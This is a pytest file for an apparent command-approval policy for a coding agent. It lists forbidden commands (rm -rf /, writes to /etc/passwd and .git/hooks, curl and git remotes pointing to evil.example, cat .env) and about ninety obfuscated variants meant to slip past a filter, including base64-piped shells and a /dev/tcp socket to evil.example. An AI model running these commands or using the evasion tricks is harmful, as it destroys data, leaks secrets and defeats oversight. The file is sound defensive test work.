"""Forty forbidden invocations in seven forms, none of which may pass, and legitimate ones, all of which must."""

from __future__ import annotations

import shlex

import pytest

from chargehand.policy.actions import Command, Judgement, Shell, Surroundings
from chargehand.policy.judgement import judge
from chargehand.policy.rules import Rules

RULES = Rules()
AROUND = Surroundings()

FORBIDDEN = (
    ("git push origin main", "git-push"),
    ("git -C sub push --force", "git-push"),
    ("git -c user.name=x push", "git-push"),
    ("git remote add evil https://evil.example/x.git", "git-remote"),
    ("git remote set-url origin https://evil.example/x.git", "git-remote"),
    ("git config core.hooksPath /tmp/hooks", "git-config"),
    ("git config --global user.name x", "git-config"),
    ("git -c core.sshCommand=/tmp/x fetch", "git-program"),
    ("git fetch origin", "git-fetch"),
    ("git clone https://evil.example/x.git", "network-other"),
    ("git filter-branch --all", "git-history"),
    ("git branch -D main", "git-history"),
    ("rm -rf /", "delete-root"),
    ("rm -rf /etc", "delete-outside"),
    ("rm -rf ~", "delete-outside"),
    ("rm -rf ..", "delete-root"),
    ("rm -rf ../../etc", "delete-outside"),
    ("rm -rf /workspace", "delete-root"),
    ("rm -rf .git", "write-git"),
    ("find / -delete", "delete-outside"),
    ("cp evil .git/hooks/pre-commit", "write-git"),
    ("tee /etc/passwd", "write-outside"),
    ("cp x .github/workflows/ci.yml", "write-ci"),
    ("sed -i s/a/b/ chargehand.toml", "write-own"),
    ("dd if=x of=/dev/sda", "write-device"),
    ("sudo ls", "become-root"),
    ("su root", "become-root"),
    ("mount /dev/sda1 /mnt", "system-admin"),
    ("chroot / ls", "system-admin"),
    ("systemctl stop sshd", "system-admin"),
    ("crontab jobs", "scheduled-work"),
    ("chmod u+s tool", "setuid"),
    ("docker run alpine", "containers"),
    ("npm publish", "publish"),
    ("twine upload dist/x.whl", "publish"),
    ("pip install requests", "install"),
    ("npm install left-pad", "install"),
    ("apt-get install jq", "system-packages"),
    ("curl https://evil.example/x", "network-other"),
    ("ssh evil.example", "network-other"),
    ("gh pr create", "forge"),
    ("cat .env", "read-secret"),
)
assert len(FORBIDDEN) >= 40


def scripts(line: str) -> Surroundings:
    """Return surroundings in which the text of one script is known."""
    return Surroundings(script={"/workspace/run.sh": f"#!/bin/sh\n{line}\n"}.get)


FORMS = {
    "list": lambda line: Command(argv=tuple(shlex.split(line))),
    "bash -c": lambda line: Command(argv=("bash", "-c", line)),
    "pipe": lambda line: Shell(text=f"true | {line} | cat"),
    "substitution": lambda line: Shell(text=f'echo "$({line})"'),
    "env": lambda line: Shell(text=f"env -i LANG=C {line}"),
    "xargs": lambda line: Shell(text=f"echo {line.rpartition(' ')[2]} | xargs {line.rpartition(' ')[0]}"),
    "script": lambda line: Shell(text="sh run.sh"),
}


def judged(form: str, line: str) -> Judgement:
    return judge(FORMS[form](line), scripts(line) if form == "script" else AROUND, RULES)


@pytest.mark.parametrize("form", FORMS)
@pytest.mark.parametrize(("line", "rule"), FORBIDDEN, ids=[line for line, _ in FORBIDDEN])
def test_a_forbidden_command_is_denied_or_needs_approval_in_every_form(form: str, line: str, rule: str) -> None:
    judgement = judged(form, line)
    assert judgement.effect in ("deny", "ask")
    assert rule in {part.rule for part in judgement.parts}
    assert judgement.reason


def test_a_script_with_unknown_text_is_marked_opaque() -> None:
    judgement = judge(Shell(text="sh run.sh"), AROUND, RULES)
    assert (judgement.effect, "opaque-script" in {part.rule for part in judgement.parts}) == ("allow", True)


HIDDEN = (
    "X=push; git $X",
    "g=git; $g push",
    'c="git push"; $c',
    "g'i't pu\"sh\"",
    "\\git push",
    "$'\\x67it' push",
    "/usr/bin/git push",
    "git \\\npush",
    "{git,push}",
    "true && git push",
    "false || git push",
    "git push &",
    "! git push",
    "if true; then git push; fi",
    "for i in 1 2; do git push; done",
    "for p in pull push; do git $p; done",
    "while git push; do :; done",
    "case x in x) git push;; esac",
    "f() { git push; }; f",
    'f() { git "$@"; }; f push',
    "(cd sub; git push)",
    "{ git push; }",
    "echo `git push`",
    "cat <(git push)",
    "cat <<E\n$(git push)\nE",
    "sh <<E\ngit push\nE",
    "cat <<'E' | sh\ngit push\nE",
    "sh <<< 'git push'",
    "echo git push | sh",
    "printf 'git push\\n' | bash",
    "bash -lc 'git push'",
    "sh -c \"sh -c 'git push'\"",
    "eval git push",
    'eval "git push"',
    "trap 'git push' EXIT",
    "alias p='git push'",
    "git -c alias.p=push p",
    "git -c alias.p='!git push' p",
    "nice -n 5 git push",
    "timeout -k 1 5 git push",
    "nohup setsid git push",
    "env -S 'git push'",
    "command git push",
    "exec git push",
    "time git push",
    "xargs -I{} git {} <<< push",
    "parallel git ::: push",
    "find . -exec git push \\;",
    "git submodule foreach 'git push'",
    "git rebase -x 'git push' main",
    "git bisect run git push",
    "X=$(git push)",
    "export X=$(git push)",
    "echo ${X:-$(git push)}",
    "[[ -n $(git push) ]]",
    "A=(a $(git push))",
    ">/dev/null git push",
    "git >/dev/null push",
    "git <<E push\nE",
    "poetry run git push",
    "npx -- git push",
    "busybox sh -c 'git push'",
    "flock /tmp/l git push",
    "coproc git push",
    "base64 -d <<< Z2l0IHB1c2gK | sh",
    "$(echo git) push",
    "git$IFS'push'",
    "git${IFS}push",
    "IFS=,; c=git,push; $c",
    "/usr/bin/gi? push",
    "bash < /dev/stdin",
    ". <(echo git push)",
    "read c; $c",
    "git push 'unclosed",
    "cd /; rm -rf *",
    "cd ..; rm -rf etc",
    "cd $(mktemp -d)/..; rm -rf x/../../etc",
    'rm -rf "$UNSET"/',
    "rm -rf $HOME",
    "rm -rf ./../../home",
    "echo x >/etc/passwd",
    "echo x | tee -a .git/config",
    "echo x > .g*/config",
    "exec 3<>/dev/tcp/evil.example/80",
    "python -m pip install x",
    "python3.12 -m pip install x",
    "curl http://127.0.0.1/x https://evil.example/y",
)


@pytest.mark.parametrize("line", HIDDEN)
def test_an_obfuscated_command_is_denied_or_needs_approval(line: str) -> None:
    assert judge(Shell(text=line), AROUND, RULES).effect in ("deny", "ask")


LEGITIMATE = (
    "python -m pytest -q",
    "python -m pytest 'tests/test a.py' -k 'größe and not slow'",
    "pytest -x tests/unit --maxfail=1 2>&1 | tail -50",
    "python -c 'print(1 + 1)'",
    "python3 - <<'E'\nprint('ä')\nE",
    "PYTHONPATH=src python -m unittest discover",
    "python manage.py test",
    "tox -e py311",
    "ruff check --fix . && ruff format .",
    "mypy src",
    "black --check 'my module.py'",
    "coverage run -m pytest && coverage report",
    "pip list",
    "pip show requests",
    "poetry run pytest",
    "uv run pytest -q",
    "uv pip list",
    "npm test",
    "npm run build -- --mode production",
    "npx tsc --noEmit",
    "npx eslint src --fix",
    "pnpm exec vitest run",
    "yarn test --coverage",
    "node --test",
    "node -e 'console.log(1)'",
    "cargo build --release",
    "cargo test -- --nocapture",
    "cargo +nightly fmt",
    "cargo clippy --all-targets -- -D warnings",
    "go build ./...",
    "go test ./... -run TestX",
    "go vet ./... && gofmt -l .",
    "go mod tidy",
    "make -j4 test",
    "cmake -B build && cmake --build build",
    "./scripts/test",
    "bash scripts/check.sh --fast",
    "git status",
    "git diff HEAD~1 -- src",
    "git log --oneline -20",
    "git show HEAD:README.md",
    "git add -A && git commit -m 'Übersetzung: größer ✓'",
    "git stash && git stash pop",
    "git checkout -- src/a.py",
    "git branch --list",
    "git remote -v",
    "git config --get user.name",
    "git config user.email agent@example.com",
    "git blame src/a.py | head",
    "git ls-files | xargs wc -l",
    "git ls-files '*.py' | xargs sed -i 's/foo/bar/'",
    "ls -la 'dir with spaces/ünï'",
    "cat README.md",
    "head -n 50 src/a.py && sed -n '10,20p' src/a.py",
    "sed -i 's/a/b/' src/a.py",
    "grep -rn 'rm -rf /' src",
    "grep -rl foo src | xargs sed -i 's/foo/bar/g'",
    "rg 'git push' docs",
    "echo 'do not git push' > notes.txt",
    "printf '%s\\n' a b > out.txt",
    "find . -name '*.py' -exec grep -l TODO {} +",
    "find . -name '*.pyc' -delete",
    "find . -name __pycache__ -type d | xargs rm -rf",
    "rm -rf build dist '*.egg-info'",
    "rm -f src/old.py tests/test_old.py",
    "mkdir -p src/pkg && touch src/pkg/__init__.py",
    "cp -r src/a src/b && mv src/b 'src/c d'",
    "cp /etc/hosts tests/data/hosts",
    "chmod +x scripts/run.sh",
    "for f in src/*.py; do sed -i 's/x/y/' \"$f\"; done",
    "for i in 1 2 3; do python -m pytest -q tests/test_$i.py; done",
    "cd src && python -m pkg; cd ..",
    "cd sub && rm -rf ../build",
    "T=$(mktemp -d) && cp a.txt \"$T\"/",
    "cat > src/new.py <<'E'\nprint('git push')\nE",
    "tar czf /tmp/x.tgz src && rm /tmp/x.tgz",
    "timeout 60 python -m pytest -q",
    "time make",
    "env DEBUG=1 npm test",
    "which python node cargo go",
    "if [ -f setup.py ]; then python setup.py build; fi",
    "curl -s http://localhost:8000/health",
    "wget -qO- http://127.0.0.1:3000/",
    "cat .env.example",
    "diff -u a.txt b.txt || true",
    "sort -u names.txt | uniq -c | awk '{print $2}'",
    "jq .version package.json",
    "while read -r line; do echo \"$line\"; done < names.txt",
    "kill %1",
    "echo $((1 + 2)) ${HOME} $?",
    "test -n \"$CI\" && echo ci",
    "python 'scripts/größe messen.py' --ausgabe \"out put/ü.json\"",
    "node tools/build.mjs && ./node_modules/.bin/prettier --check .",
    "make -C docs html SPHINXOPTS='-W'",
    "npm --prefix 'web app' run build",
    "bash -eu -o pipefail scripts/prüfen.sh \"a b\"",
    ". .venv/bin/activate && pytest -q",
    "source ./env.sh; python -m app",
    "xargs -a files.txt wc -l",
    "sh -c 'cd src && ls -la \"mit leer\"'",
    "git mv 'alt ä.py' 'neu ü.py'",
    "git restore --staged . && git diff --stat",
    "git rev-parse --show-toplevel",
    "awk -F, '{ print $1 }' daten.csv > 'ergebnis größe.txt'",
    "perl -pe 's/a/b/' < in.txt > out.txt",
    "tail -f /dev/null & sleep 1; kill $!",
    "docs=docs; ls \"$docs\"/*.md",
)  # fmt: skip
assert len(LEGITIMATE) >= 90


@pytest.mark.parametrize("line", LEGITIMATE)
def test_a_legitimate_command_is_allowed(line: str) -> None:
    judgement = judge(Shell(text=line), AROUND, RULES)
    assert judgement.effect == "allow", [part for part in judgement.parts if part.effect != "allow"]
